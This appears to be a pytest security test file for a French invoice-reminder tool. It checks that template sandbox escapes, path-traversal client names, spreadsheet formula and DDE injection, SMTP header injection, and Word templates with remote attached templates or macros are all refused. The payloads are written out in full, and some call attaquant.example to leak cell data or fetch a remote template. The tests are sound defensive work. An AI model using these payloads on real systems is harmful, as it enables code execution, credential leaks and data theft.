"""Hostile data in an otherwise valid workbook: each attack is refused or neutralised.

Template sandbox escapes, client names made of path separators and reserved device names,
formula injection into the sheets and the CSV we write, SMTP header injection through a client's
email or name, and Word templates carrying an external relationship or a macro. Every case goes
through the command line as a user would run it.
"""

from __future__ import annotations

import csv
import datetime as dt
import email
import email.policy
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from aiosmtpd.controller import Controller
from docx import Document as WordDocument
from hostile import (
    AS_OF,
    INVOICE_HEADER,
    Mailbox,
    clients_of,
    complete_workbook,
    free_port,
    french_error,
    invoice,
    parameters,
    run,
    write_xlsx,
)

from relance_xl.assets import LETTER_TEMPLATES, asset

DAY = AS_OF.isoformat()
LETTER_DUE = AS_OF - dt.timedelta(days=40)
EMAIL_DUE = AS_OF - dt.timedelta(days=7)


def letters_workbook(folder: Path, names: list[str], **settings: object) -> Path:
    """Clients whose step today is the 1re lettre de relance (level 1 recorded 20 days ago)."""
    rows = [list(INVOICE_HEADER)] + [
        invoice(name, f"L-{n:03d}", LETTER_DUE) for n, name in enumerate(names, 1)
    ]
    history = [["Date", "Client", "N° facture", "Niveau", "Action", "Canal", "Statut"]] + [
        [AS_OF - dt.timedelta(days=20), row[0], row[1], "1", "relance amiable", "email", "envoyé"]
        for row in rows[1:]
    ]
    sheets = {
        "Factures": rows,
        "Clients": clients_of(rows),
        "Paramètres": parameters(**settings),
        "Historique": history,
    }
    return write_xlsx(folder / "Relances.xlsx", sheets)


# --- modèles : évasion du bac à sable -------------------------------------------------------------


ESCAPES = {
    "classe de base et sous-classes": "{{ client.__class__.__mro__[1].__subclasses__() }}",
    "globals d'une fonction": "{{ montant_du.__init__.__globals__ }}",
    "filtre attr": "{{ (client|attr('__class__')|attr('__base__')) }}",
    "format de chaîne": "{{ '{0.__class__.__init__.__globals__}'.format(client) }}",
    "os.popen par cycler": "{{ cycler.__init__.__globals__.os.popen('touch PIRATE').read() }}",
    "lipsum.__globals__": "{{ lipsum.__globals__['os'].system('touch PIRATE') }}",
    "boucle démesurée": "{% for i in range(10**9) %}{% endfor %}",
    "appel de méthode privée": "{{ factures.__setitem__(0, 1) }}",
}


def user_template(folder: Path, name: str, payload: str) -> Path:
    """The bundled ``name`` template with one more paragraph holding ``payload``."""
    folder.mkdir(exist_ok=True)
    source = asset(LETTER_TEMPLATES) / name
    target = folder / name
    if name.endswith(".txt"):
        target.write_text(source.read_text(encoding="utf-8") + "\n" + payload + "\n", "utf-8")
    else:
        document = WordDocument(str(source))
        document.add_paragraph(payload)
        document.save(str(target))
    return target


@pytest.mark.parametrize("charge", list(ESCAPES))
def test_modele_word_ne_sort_pas_du_bac_a_sable(tmp_path, capsys, charge):
    """A user's Word template trying to reach Python is refused before any letter is written;
    the message names the template; nothing ran."""
    workbook = letters_workbook(tmp_path, ["Dupont SARL", "Martin SA"],
                                **{"Dossier des modèles": "modeles"})  # fmt: skip
    user_template(tmp_path / "modeles", "lettre_relance_1.docx", ESCAPES[charge])
    out = tmp_path / "Courriers"
    outcome = run(["courriers", workbook, "--date", DAY, "--sortie", out], capsys)
    french_error(outcome, "lettre_relance_1")
    assert not list(out.glob("*.docx"))
    assert not list(tmp_path.rglob("PIRATE")) and not Path("PIRATE").exists()


@pytest.mark.parametrize("charge", list(ESCAPES))
def test_modele_de_courriel_ne_sort_pas_du_bac_a_sable(tmp_path, capsys, charge):
    """The same escapes in the plain-text email template are refused too."""
    rows = [list(INVOICE_HEADER), invoice("Dupont SARL", "E-001", EMAIL_DUE)]
    workbook = complete_workbook(tmp_path / "Relances.xlsx", rows,
                                 settings={"Dossier des modèles": "modeles"})  # fmt: skip
    user_template(tmp_path / "modeles", "relance_amiable.txt", ESCAPES[charge])
    out = tmp_path / "Courriers"
    outcome = run(["courriers", workbook, "--date", DAY, "--sortie", out], capsys)
    french_error(outcome, "relance_amiable")
    assert not list(out.glob("*.eml"))
    assert not list(tmp_path.rglob("PIRATE"))


# --- noms de clients : chemins et noms réservés ------------------------------------------------


PATH_NAMES = [
    "../../../tmp/evasion",
    "..\\..\\Windows\\System32\\pilote",
    "/etc/passwd",
    "C:\\boot.ini",
    "CON",
    "nul.txt",
    "COM1",
    "LPT9.docx",
    "..",
    ".",
    "nom:flux alternatif",
    "~",
    "$HOME",
    "*?<>|",
]


def test_noms_de_clients_dangereux_restent_dans_le_dossier(tmp_path, capsys):
    """Client names made of path separators, '..', drives and reserved Windows names give one
    letter each, all directly in the output folder, with portable names."""
    home = tmp_path / "travail"
    home.mkdir()
    workbook = letters_workbook(home, PATH_NAMES)
    out = home / "Courriers"
    escaped = Path("/tmp/evasion")
    existed = escaped.exists()
    outcome = run(["courriers", workbook, "--date", DAY, "--sortie", out], capsys)
    assert outcome.code == 0, outcome.err
    letters = [path for path in out.rglob("*") if path.suffix == ".docx"]
    assert len(letters) == len(PATH_NAMES)
    assert all(path.parent == out for path in letters)
    reserved = re.compile(r"^(CON|PRN|AUX|NUL|COM\d|LPT\d)(\..*)?$", re.IGNORECASE)
    for path in letters:
        assert re.fullmatch(r"[A-Za-z0-9_.-]+", path.name), path.name
        assert not reserved.match(path.name) and not path.name.startswith(".")
    assert sorted(p.name for p in home.iterdir()) == ["Courriers", "Relances.xlsx"]
    assert [p.name for p in tmp_path.iterdir()] == ["travail"]
    assert escaped.exists() == existed


# --- injection de formules --------------------------------------------------------------------


FORMULAS = [
    '=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.fixture
def injected(tmp_path: Path) -> Path:
    """Clients and invoice numbers that Excel would run as formulas if written as such."""
    rows = [list(INVOICE_HEADER)] + [
        invoice(name, f"=F{n}+1", EMAIL_DUE) for n, name in enumerate(FORMULAS, 1)
    ]
    return complete_workbook(tmp_path / "Relances.xlsx", rows)


def sheet_cells(path: Path, sheet: str) -> list[str]:
    """Every ``<c>`` element of ``sheet`` in the written workbook, as XML text."""
    with zipfile.ZipFile(path) as archive:
        workbook = archive.read("xl/workbook.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
        rid = re.search(rf'<sheet [^>]*name="{re.escape(sheet)}"[^>]*r:id="([^"]+)"', workbook)
        assert rid, sheet
        target = re.search(rf'Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels) or re.search(
            rf'Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels
        )
        assert target
        name = target.group(1).lstrip("/")
        name = name if name.startswith("xl/") else f"xl/{name}"
        xml = archive.read(name).decode()
    return re.findall(r"<c [^>]*?(?:/>|>.*?</c>)", xml)


def test_aucune_formule_dans_les_feuilles_ecrites(injected, tmp_path, capsys):
    """Text that looks like a formula is written as text in every result sheet: no ``<f>``
    element, and the text reads back unchanged."""
    result = tmp_path / "resultat.xlsx"
    outcome = run(["mettre-a-jour", injected, "--date", DAY, "--sortie", result], capsys)
    assert outcome.code in (0, 1), outcome.err
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_path(str(result))
    for sheet in ("Actions", "Balance âgée", "Anomalies", "Tableau de bord"):
        assert not [cell for cell in sheet_cells(result, sheet) if "<f>" in cell or "<f " in cell]
    shown = {c for row in book.get_sheet_by_name("Balance âgée").to_python() for c in row}
    assert set(FORMULAS) <= shown


def test_aucune_formule_dans_l_historique(injected, capsys):
    """enregistrer appends the clients' names to Historique as text, never as formulas."""
    outcome = run(["enregistrer", injected, "--date", DAY], capsys)
    assert outcome.code in (0, 1), outcome.err
    cells = sheet_cells(injected, "Historique")
    assert cells and not [cell for cell in cells if "<f>" in cell or "<f " in cell]


def test_recapitulatif_csv_desamorce(injected, tmp_path, capsys):
    """In recapitulatif.csv, every cell that Excel would read as a formula starts with « ' »."""
    out = tmp_path / "Courriers"
    outcome = run(["courriers", injected, "--date", DAY, "--sortie", out], capsys)
    assert outcome.code in (0, 1), outcome.err
    text = (out / "recapitulatif.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines(), delimiter=";"))
    clients = [row[0] for row in rows[1:]]
    assert sorted(clients) == sorted(f"'{name}" for name in FORMULAS)
    for row in rows[1:]:
        assert not any(cell.lstrip("\t\r ").startswith(("=", "+", "-", "@")) for cell in row)


# --- injection d'en-têtes SMTP -----------------------------------------------------------------


INJECTIONS = {
    "Bcc dans l'adresse": ("client{n}@example.fr\r\nBcc: victime@attaquant.example", None),
    "en-tête dans l'adresse": ("client{n}@example.fr\nX-Injecte: oui", None),
    "Bcc dans le nom": (None, "Dupont\r\nBcc: victime@attaquant.example"),
    "To dans le nom": (None, "Martin\nTo: victime@attaquant.example"),
    "virgule et deux adresses": ("client{n}@example.fr, victime@attaquant.example", None),
}


def smtp_settings(port: int) -> dict[str, object]:
    """Paramètres of the local SMTP server."""
    return {
        "Serveur SMTP": "127.0.0.1",
        "Port SMTP": port,
        "Sécurité SMTP": "aucune",
        "Expéditeur": "compta@menuiserie-exemple.fr",
    }


@pytest.fixture
def mailbox():
    """A real SMTP server on 127.0.0.1: (mailbox, port)."""
    box = Mailbox()
    port = free_port()
    controller = Controller(box, hostname="127.0.0.1", port=port)
    controller.start()
    yield box, port
    controller.stop()


@pytest.mark.parametrize("injection", list(INJECTIONS))
def test_injection_d_en_tete_smtp_neutralisee(tmp_path, capsys, mailbox, injection):
    """A line break or a second address in a client's email or name never adds a recipient
    or a header: the draft has exactly one To and no Bcc, and only the client's own address
    (or nobody) receives anything."""
    box, port = mailbox
    address, name = INJECTIONS[injection]
    rows = [list(INVOICE_HEADER), invoice("Client piégé", "E-001", EMAIL_DUE)]
    columns = {}
    if address:
        columns["Email"] = lambda n, key: address.format(n=n)
    if name:
        columns["Raison sociale"] = lambda n, key: name
    workbook = complete_workbook(tmp_path / "Relances.xlsx", rows,
                                 clients=clients_of(rows, **columns),
                                 settings=smtp_settings(port))  # fmt: skip
    out = tmp_path / "Courriers"
    outcome = run(["courriers", workbook, "--date", DAY, "--sortie", out, "--envoyer"], capsys)
    assert outcome.code in (0, 1), outcome.err
    for draft in out.glob("*.eml"):
        message = email.message_from_bytes(draft.read_bytes(), policy=email.policy.default)
        assert message["Bcc"] is None and message["X-Injecte"] is None
        assert [a.addr_spec for a in message["To"].addresses] == ["client1@example.fr"]
    assert set(box.recipients()) <= {"client1@example.fr"}
    for message in box.received:
        assert message["Bcc"] is None and message["X-Injecte"] is None
        assert len(message.get_all("To")) == 1


# --- modèles Word : relations externes et macros ------------------------------------------------


def rewrite(source: Path, target: Path, edits: dict[str, bytes | None]) -> Path:
    """Copy a .docx, replacing (or adding) members; None removes one."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            if info.filename not in edits:
                out.writestr(info, src.read(info.filename))
        for name, data in edits.items():
            if data is not None:
                out.writestr(name, data)
    return target


RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def external_template(source: Path, target: Path) -> Path:
    """Attached template fetched from the network when the letter opens (a known way to run a
    remote macro or leak the reader's Windows credentials)."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId99" Type="{RELS}/attachedTemplate" '
        'Target="http://attaquant.example/modele.dotm" TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(source) as src:
        settings = src.read("word/settings.xml").decode()
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rId99"/><w:zoom', 1)
    if "xmlns:r=" not in settings:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{RELS}" ', 1)
    return rewrite(source, target, {
        "word/_rels/settings.xml.rels": rels.encode(),
        "word/settings.xml": settings.encode(),
    })  # fmt: skip


def external_image(source: Path, target: Path) -> Path:
    """A picture linked to a network share (``\\\\attaquant\\partage``), loaded on opening."""
    with zipfile.ZipFile(source) as src:
        rels = src.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rId98" Type="{RELS}/image" '
        'Target="file://attaquant/partage/pixel.png" TargetMode="External"/></Relationships>',
    )
    return rewrite(source, target, {"word/_rels/document.xml.rels": rels.encode()})


def macro_template(source: Path, target: Path) -> Path:
    """A macro project inside a .docx (a .docm renamed)."""
    with zipfile.ZipFile(source) as src:
        types = src.read("[Content_Types].xml").decode()
        rels = src.read("word/_rels/document.xml.rels").decode()
    types = types.replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rId97" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    return rewrite(source, target, {
        "[Content_Types].xml": types.encode(),
        "word/_rels/document.xml.rels": rels.encode(),
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"Attribut VB",
    })  # fmt: skip


UNSAFE_TEMPLATES = {
    "modèle attaché distant": external_template,
    "image liée sur un partage réseau": external_image,
    "projet de macros": macro_template,
}


def _unsafe_parts(letter: Path) -> list[str]:
    """Macro parts and external relationships (other than hyperlinks) of a .docx."""
    with zipfile.ZipFile(letter) as archive:
        found = [n for n in archive.namelist() if "vbaproject" in n.lower()]
        for name in archive.namelist():
            if name.endswith(".rels"):
                rels = archive.read(name).decode()
                for rel in re.findall(r"<Relationship [^>]*>", rels):
                    if 'TargetMode="External"' in rel and "/hyperlink" not in rel:
                        found.append(f"{name}: {rel}")
    return found


@pytest.mark.parametrize("piege", list(UNSAFE_TEMPLATES))
def test_modele_word_avec_relation_externe_ou_macro(tmp_path, capsys, piege):
    """A user template with an external link loaded on opening, or with macros, is refused
    with a French message naming it — or the letters are written without it: no letter sent
    to a client ever carries one."""
    workbook = letters_workbook(tmp_path, ["Dupont SARL", "Martin SA"],
                                **{"Dossier des modèles": "modeles"})  # fmt: skip
    (tmp_path / "modeles").mkdir()
    UNSAFE_TEMPLATES[piege](
        asset(LETTER_TEMPLATES) / "lettre_relance_1.docx",
        tmp_path / "modeles" / "lettre_relance_1.docx",
    )
    out = tmp_path / "Courriers"
    outcome = run(["courriers", workbook, "--date", DAY, "--sortie", out], capsys)
    if outcome.code == 2:
        french_error(outcome, "lettre_relance_1")
        assert not list(out.glob("*.docx"))
    else:
        letters = list(out.glob("*.docx"))
        assert letters and not [part for p in letters for part in _unsafe_parts(p)]


def test_un_lien_hypertexte_reste_permis(tmp_path, capsys):
    """A plain hyperlink (the creditor's website) is not an unsafe link: the letters go."""
    workbook = letters_workbook(tmp_path, ["Dupont SARL"], **{"Dossier des modèles": "modeles"})
    (tmp_path / "modeles").mkdir()
    source = asset(LETTER_TEMPLATES) / "lettre_relance_1.docx"
    with zipfile.ZipFile(source) as src:
        rels = src.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rId96" Type="{RELS}/hyperlink" '
        'Target="https://www.menuiserie-exemple.fr" TargetMode="External"/></Relationships>',
    )
    rewrite(source, tmp_path / "modeles" / "lettre_relance_1.docx",
            {"word/_rels/document.xml.rels": rels.encode()})  # fmt: skip
    out = tmp_path / "Courriers"
    outcome = run(["courriers", workbook, "--date", DAY, "--sortie", out], capsys)
    assert outcome.code == 0, outcome.err
    assert len(list(out.glob("*.docx"))) == 1


def test_modeles_fournis_sans_lien_externe_ni_macro(tmp_path):
    """The templates shipped with relance_xl carry no external link and no macro."""
    for template in asset(LETTER_TEMPLATES).glob("*.docx"):
        copy = shutil.copy(template, tmp_path / template.name)
        assert _unsafe_parts(Path(copy)) == [], template.name
